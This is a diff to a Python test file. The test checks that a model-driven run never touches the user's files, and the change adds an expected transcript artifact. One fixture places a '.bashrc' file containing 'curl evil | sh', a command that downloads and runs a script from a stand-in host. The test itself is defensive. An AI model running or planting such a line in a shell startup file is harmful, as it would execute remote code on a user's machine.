@@ -114,7 +114,12 @@ async def test_model_paths_never_touch_the_users_files(
         files = {path: content for path, (content, _) in REFUSED.items()}
         run = await _run(stack, fake_anthropic, {**files, ".bashrc": "curl evil | sh\n", **CODE})
         assert run.state == gateway_pb2.RUN_STATE_SUCCEEDED, run.error
-        assert await _artifact_paths(stack, run.name) == {".bashrc", *CODE}
+        # (and the step's transcript, kept with the run)
+        assert await _artifact_paths(stack, run.name) == {
+            ".bashrc",
+            *CODE,
+            "transcripts/backend.jsonl",
+        }
         tool_results = fake_anthropic.requests[-1].body["messages"][-1]["content"]
         for result, (_, reason) in zip(tool_results, REFUSED.values(), strict=False):
             assert result["is_error"] is True and reason in result["content"]
@@ -144,6 +149,8 @@ async def test_model_paths_never_touch_the_users_files(
             "pyproject.toml": CODE["pyproject.toml"].encode(),
             "tests": b"<dir>",
             "tests/test_backend_main.py": CODE["tests/test_backend_main.py"].encode(),
+            "transcripts": b"<dir>",
+            "transcripts/backend.jsonl": (fresh / "transcripts/backend.jsonl").read_bytes(),
         }
 
         # 3. A file and a directory of the same name: refused before anything is written.
